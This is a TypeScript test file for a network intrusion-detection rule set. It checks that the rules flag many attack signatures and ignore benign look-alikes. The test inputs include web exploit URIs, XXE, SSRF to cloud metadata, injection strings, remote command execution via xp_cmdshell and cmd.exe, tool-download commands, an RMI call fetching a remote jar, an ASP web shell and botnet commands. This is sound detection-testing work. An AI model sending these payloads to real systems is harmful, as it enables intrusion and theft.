import { describe, expect, it } from 'vitest'
import { percentDecoded } from '../../decode/http-parts.ts'
import { builtInRules } from './built-in-rules.ts'
import type { RulePart } from './rule-part.ts'
import { RuleSet } from './rule-set.ts'

const rules = new RuleSet(builtInRules)

function kinds(part: RulePart, text: string): string[] {
  const raw = Buffer.from(text, 'latin1')
  const bytes = part.startsWith('http') ? percentDecoded(raw) : raw
  return rules.match(part, bytes, 0, bytes.length).map(({ rule }) => rule.kind)
}

/** As Windows writes text on the wire. */
const wide = (text: string) => Buffer.from(text, 'utf16le').toString('latin1')
const base64 = 'QUJD'.repeat(43)

/** A request for a session of IPMI with this algorithm for its passwords. */
const openSession = (algorithm: number) => {
  const choice = (kind: number) =>
    `${String.fromCharCode(kind)}\0\0\x08${String.fromCharCode(algorithm)}\0\0\0`
  const fields = `${'\0'.repeat(8)}\x20\0\0\0\0\0\xa4\xa3\xa2\xa0`
  return `\x06\0\xff\x07\x06\x10${fields}${choice(0)}${choice(1)}${choice(2)}`
}
/** A call of a Java object by its number, with a text behind the name of a class. */
const rmiCall = (text: string) =>
  `P\xac\xed\0\x05w"${'\0'.repeat(34)}sr\0\x0borg.a.Loader${'\0'.repeat(12)}t\0${String.fromCharCode(text.length)}${text}`
/** A binding of SNMP to the protocol by which a configuration is copied. */
const snmpCopy = (value: string) =>
  `\x30\x15\x06\x10\x2b\x06\x01\x04\x01\x09\x09\x60\x01\x01\x01\x01\x02\x83\x3a${value}`

describe('rules for single products and families', () => {
  it.each<[RulePart, string, string]>([
    ['http.uri', '/vendor/phpunit/phpunit/src/Util/PHP/eval-stdin.php', 'web_exploit'],
    ['http.uri', '/index.php?%ADd+allow_url_include%3d1', 'web_exploit'],
    ['http.uri', '/wls-wsat/CoordinatorPortType', 'web_exploit'],
    ['http.uri', '/tmui/login.jsp/..;/tmui/locallb/workspace/fileRead.jsp', 'web_exploit'],
    ['http.uri', '/autodiscover/autodiscover.json?@evil.example/owa/?&Email=a', 'web_exploit'],
    ['http.header', 'Cookie: X-BEResource=localhost~1942062522', 'web_exploit'],
    ['http.header', 'Range: bytes=0-18446744073709551615', 'web_exploit'],
    ['http.header', `If: <http://localhost/${'a'.repeat(80)}>`, 'web_exploit'],
    ['http.header', 'Accept-Encoding: doar-e, ftw, imo, ,', 'web_exploit'],
    ['http.body', '<p:ExecuteShellCommand_INPUT><p:command>id</p:command>', 'web_exploit'],
    ['http.body', '<NewInternalClient>`cd /tmp`</NewInternalClient>', 'device_exploit'],
    ['http.body', '<!DOCTYPE a [<!ENTITY x SYSTEM "file:///etc/hosts">]>', 'xml_external_entity'],
    ['http.uri', '/hello?name={{7*7}}', 'template_injection'],
    ['http.uri', '/fetch?url=http://169.254.169.254/latest/meta-data/', 'request_forgery'],
    ['http.body', 'user=admin&password[$ne]=x', 'nosql_injection'],
    ['payload', 'USER letmein:)\r\n', 'service_exploit'],
    ['payload', 'site cpfr /etc/passwd\r\n', 'service_exploit'],
    ['payload', '\xfcSMB\xff\xff\xff\xff\x00\x00\x00\x00', 'smb_exploit'],
    ['payload', wide("EXEC master..xp_cmdshell 'whoami'"), 'remote_execution'],
    ['payload', wide('cmd.exe /Q /c cd 1> \\\\127.0.0.1\\ADMIN$\\__16 2>&1'), 'remote_execution'],
    ['payload', 'OPENX\x00\x00shell:cd /data/local/tmp; busybox wget', 'device_exploit'],
    ['payload', 'CONFIG SET dir /var/spool/cron\r\n', 'service_exploit'],
    ['payload', '\x00\x01running-config\x00octet\x00', 'file_disclosure'],
    ['payload', 'tftp -i 10.0.0.5 GET msblast.exe\n', 'tool_download'],
    ['payload', 'echo open 10.0.0.5 5554 > cmd.ftp\r\n', 'tool_download'],
    ['payload', 'var s = unescape("%u9090%u9090%uc3c9");', 'browser_exploit'],
    ['payload', '\x17\x00\x03\x2a\x00\x00\x00\x00', 'amplification_request'],
    ['payload', 'bash: no job control in this shell\n', 'reverse_shell'],
    ['payload', 'uid=33(www-data) gid=33(www-data) groups=33(www-data)', 'reverse_shell'],
    ['payload', 'powershell.exe -nop -w hidden -c "IEX"', 'hidden_powershell'],
    ['payload', 'root:x:0:0:root:/root:/bin/bash\ndaemon:x:1:1', 'file_disclosure'],
    ['http.header', `Host: a\nCookie: ${base64.slice(0, 171)}=\n`, 'malware_check_in'],
    ['http.uri', `/ono19/PC_W617601.${'A1'.repeat(16)}/5/spk/`, 'malware_check_in'],
    ['http.uri', `/images/${'aB_2/'.repeat(24)}x.gif`, 'malware_check_in'],
    ['http.header', 'Cookie: __gads=3565213230:1:16212:134; _gat=6.1', 'malware_check_in'],
    ['http.body', 'GUID=11762013261093838848&BUILD=2606_jn', 'malware_check_in'],
    ['dns.name', 'www.iuqerfsodp9ifjaposdfjhgosurijfaewrwergwea.com', 'malware_check_in'],
    ['dns.name', 'abcdefghijklmnop.onion.to', 'malware_check_in'],
    ...['', 'a', 'ab'].map((paw): [RulePart, string, string] => [
      'http.body',
      Buffer.from(`{"paw":"${paw}","executors":["psh","cmd"],"pid":7}`).toString('base64'),
      'malware_check_in',
    ]),
    ['tls.sni', 'ws11.coinhive.com', 'crypto_mining'],
    [
      'payload',
      '{"type":"job","params":{"job_id":"7","blob":"0606","target":"ff"}}',
      'crypto_mining',
    ],
    ['payload', 'Subject: PW_user/DESKTOP-1A2B3C\r\n', 'credential_theft'],
    ['payload', 'STOR PW_user-DESKTOP_2024_01_02.html\r\n', 'credential_theft'],
    ['payload', ':a!b@c PRIVMSG #x :.advscan lsass 100 5 0 -r -s\r\n', 'botnet_command'],
    ['payload', ':irc.x 332 bot #x :.ddos.syn 10.0.0.1 80 60\r\n', 'botnet_command'],
    ['payload', 'NICK [USA|XP|P|00|123456]\r\n', 'botnet_command'],
    ['payload', '!* UDP 203.0.113.9 80 60\n', 'botnet_command'],
    ['payload', 'OPTIONS sip:100@10.0.0.1\r\nUser-Agent: friendly-scanner\r\n', 'sip_scan'],
    ['payload', '\0root\0root\0xterm/38400\0', 'service_exploit'],
    ['payload', 'echo "+ +" >> /root/.rhosts\n', 'service_exploit'],
    ['payload', openSession(0), 'service_exploit'],
    ['payload', snmpCopy('\x02\x01\x01'), 'file_disclosure'],
    [
      'payload',
      `\0\0\0\x2a\0\0\0\0\0\0\0\x02\0\x01\x86\xa0\0\0\0\x02\0\0\0\x04`,
      'service_listing',
    ],
    [
      'payload',
      `\0\0\0\x2a\0\0\0\0\0\0\0\x02\0\x01\x86\xa5\0\0\0\x03\0\0\0\x05`,
      'service_listing',
    ],
    ['payload', '\0\0\0\x22\0\0\0\x05\0\x01\x02\0\0\0\x13Ljava/lang/Runtime;', 'remote_execution'],
    ['payload', '\xff\xfa\x27\0\0USER\x01-f root\xff\xf0', 'service_exploit'],
    ['payload', '\x82\xa3cmd\xaf_prep_auth_info', 'service_exploit'],
    ['payload', rmiCall('http://192.0.2.7:8080/x.jar'), 'service_exploit'],
    ['payload', `\0\0\0\x08copy nvram:startup-config tftp://192.0.2.7/a`, 'file_disclosure'],
    ['payload', 'M2\x05\0\xff\x01//./..//////./../flash/rw/store/user.dat', 'device_exploit'],
    ['payload', 'M-SEARCH * HTTP/1.1\r\nST:uuid:`reboot`\r\n', 'device_exploit'],
    ['payload', wide('\\PIPE\\/srv/share/x.so'), 'service_exploit'],
    ['payload', 'brokerConfig\nrocketmqHome=-c $@|sh . echo id;', 'service_exploit'],
    ['payload', '\0\0\0\0\0\x01\0\0stats\r\n', 'amplification_request'],
    [
      'http.header',
      `Cookie: x=O:14:"PDOStatementX":1:{s:4:"file";s:5:"x.php";}`,
      'object_injection',
    ],
    ['http.body', '__VIEWSTATE=%2FwEyxwcAAQAAAP%2F%2F', 'object_injection'],
    ['http.body', 'data=AAEAAAD/////AQAAAAAAAAAM', 'object_injection'],
    ['http.header', 'Cookie: rememberMe=rO0ABXNyABFqYXZhLnV0aWwuSGFzaE1hcA==', 'object_injection'],
    ['http.body', 'state=Y3Bvc2l4CnN5c3RlbQpwMQooUydpZCcKdFIu', 'object_injection'],
    ['http.uri', '/login?user=*)(uid=*))(|(uid=*&pass=x', 'ldap_injection'],
    ['http.uri', "/find?name=x'] | //*[contains(., 'a", 'xpath_injection'],
    ['http.body', 'name=<!--#exec cmd="id" -->', 'command_injection'],
    ['http.uri', '/go?to=/a%0d%0aSet-Cookie:%20session=1', 'header_injection'],
    ['http.header', 'Transfer-Encoding: chunked, chunked', 'request_smuggling'],
    ['http.body', '0\r\n\r\nGET /admin HTTP/1.1\r\nX: ', 'request_smuggling'],
    ['http.header', 'Cookie: SESSID=/../../../opt/panlogs/tmp/x', 'web_exploit'],
    ['http.uri', '/unauth/%252e%252e/php/ztp_gateway.php/PAN_help/x.css', 'web_exploit'],
    [
      'http.uri',
      '/+CSCOT+/translation-table?type=mst&textdomain=/%2bCSCOE%2b/portal_inc.lua',
      'web_exploit',
    ],
    ['http.uri', '/setup/setup-s/%u002e%u002e/%u002e%u002e/log.jsp', 'web_exploit'],
    ['http.body', '{"then":"$1:__proto__:then","status":"resolved_model"}', 'web_exploit'],
    ['http.header', 'x-middleware-subrequest: src/middleware:src/middleware', 'web_exploit'],
    ['http.body', '{"type":"user","roles":["_admin"],"roles":[],"password":"x"}', 'web_exploit'],
    ['http.body', 'script=println+"id".execute().text', 'web_exploit'],
    ['http.body', '{"Mounts":[{"Type":"bind","Source":"/","Target":"/mnt"}]}', 'web_exploit'],
    [
      'http.body',
      '<%@ Page Language="Jscript"%><%eval(Request.Item["x"],"unsafe");%>',
      'web_shell',
    ],
  ])('find in %s: %s', (part, text, kind) => {
    expect(kinds(part, text)).toContain(kind)
  })

  it.each<[RulePart, string]>([
    ['http.uri', '/autodiscover/autodiscover.json?Email=a@b.example&Protocol=EWS'],
    ['http.header', 'Accept-Encoding: gzip, deflate, br'],
    ['http.header', 'Range: bytes=0-1023'],
    ['http.header', 'If: <http://localhost/file.txt> (<opaquelocktoken:1>)'],
    ['http.header', `Host: a\nCookie: session=${base64.slice(0, 171)}=\n`],
    ['http.header', 'Cookie: __gads=ID=1a2b3c:T=1700000000:S=ALNI_Ma'],
    ['http.body', '<!ENTITY copy "&#169;"> and <!DOCTYPE html SYSTEM "about:legacy-compat">'],
    ['http.body', 'text=The price is {{price}} or ${price}; 7*7 is 49'],
    ['http.uri', '/proxy?url=http://shop.example/a&x[$n]=1'],
    ['http.uri', '/images/2024/01/holiday-in-a-long-folder-name-of-a-web-log/picture-1.gif'],
    ['http.uri', '/show_w12345.html'],
    ['http.body', 'guid=550e8400-e29b-41d4-a716-446655440000&name=x'],
    ['payload', 'USER anna\r\nPASS :-)\r\n'],
    ['payload', 'The powershell -Command switch runs a command in a new window'],
    ['payload', 'unescape("%u00e4") gives a letter'],
    ['payload', 'CONFIG SET maxmemory 2gb\r\n'],
    ['payload', '\x00\x02startup-config\x00octet\x00'],
    ['payload', 'tftp -i is how Windows asks for a binary file'],
    ['payload', 'echo open the door\n'],
    ['payload', 'Subject: PWA meeting on Monday\r\n'],
    ['payload', 'PRIVMSG #linux :how do I download a file? !help wget\r\n'],
    ['payload', 'NICK anna_1984\r\n'],
    ['payload', 'root:x:0: is the first group'],
    ['dns.name', 'onion-soup.example'],
    ['payload', `root${'\0'.repeat(28)}root${'\0'.repeat(28)}`],
    ['payload', 'echo 1 + + > sum.txt'],
    ['payload', openSession(1)],
    ['payload', snmpCopy('\x05\0')],
    // Asks the port mapper for one port, and the mount service for one folder.
    ['payload', `\0\0\0\x2a\0\0\0\0\0\0\0\x02\0\x01\x86\xa0\0\0\0\x02\0\0\0\x03`],
    ['payload', `\0\0\0\x2a\0\0\0\0\0\0\0\x02\0\x01\x86\xa5\0\0\0\x03\0\0\0\x01`],
    ['payload', '\0\0\0\x22\0\0\0\x05\0\x01\x02\0\0\0\x12Lorg/example/Model;'],
    ['payload', '\xff\xfa\x27\0\0USER\x01frank\xff\xf0'],
    ['payload', rmiCall('a name of a service')],
    ['payload', 'M-SEARCH * HTTP/1.1\r\nST:uuid:2f402f80-da50-11e1-9b23\r\n'],
    ['payload', wide('\\PIPE\\svcctl and /lib/x.so')],
    ['http.body', 'settings=a:2:{s:4:"size";i:3;s:4:"name";s:5:"large";}'],
    ['http.body', '__VIEWSTATE=%2FwEPDwUKMTY3NzI1MTk2MGRk'],
    ['http.uri', '/search?filter=(cn=anna*)(department=sales)'],
    ['http.body', 'code=url.replace(/(.*)(&|$)/, "")'],
    ['http.uri', '/note?text=Set-Cookie: is a header%0d%0aand Location is one, too'],
    ['http.header', 'Transfer-Encoding: gzip, chunked'],
    ['http.body', 'The last chunk is 0\r\n\r\nget it?'],
    ['http.uri', '/setup/index.jsp'],
    ['http.uri', '/api/is-ready'],
    ['payload', 'GET /is-ready HTTP/1.1\r\n'],
    ['http.uri', '/submit.php?id=12'],
    ['http.body', '{"paw":"a","executors":["sh"],"nodes":3}'],
    ['http.body', Buffer.from('{"executor":"sh","results":[]}').toString('base64')],
    ['payload', '{"type":"job","params":{"id":7,"queue":"mail"}}'],
    ['http.body', '{"roles":["_admin"],"name":"anna"}'],
    ['http.body', '{"routes":[{"source":"/","target":"/home"}]}'],
    ['http.body', 'text=<% for item in Request.Form %>'],
  ])('stay silent in %s: %s', (part, text) => {
    expect(kinds(part, text)).toEqual([])
  })
})

it.each<[RulePart, string, boolean]>([
  ['http.uri', '/fetch?url=http://127.0.0.1:8080/admin', false],
  ['http.uri', '/login?redirect_uri=http://127.0.0.1:8080/done', true],
  ['http.uri', '/collect?v=1&dl=http://localhost:3000/shop', true],
  ['http.uri', '/shell.jsp?x=whoami', false],
  ['http.uri', '/search?q=whoami', true],
  ['http.uri', '/man.cgi?query=ifconfig', true],
  ['payload', 'build x86:1.0', false],
  ['payload', 'passed: build x86: 12 tests', true],
])('of %s %s it is %s that people and programs write so', (part, text, isQuoted) => {
  const bytes = Buffer.from(text)
  const found = rules.match(part, bytes, 0, bytes.length)
  expect(found.map(({ isStatement }) => isStatement)).toEqual([isQuoted])
})
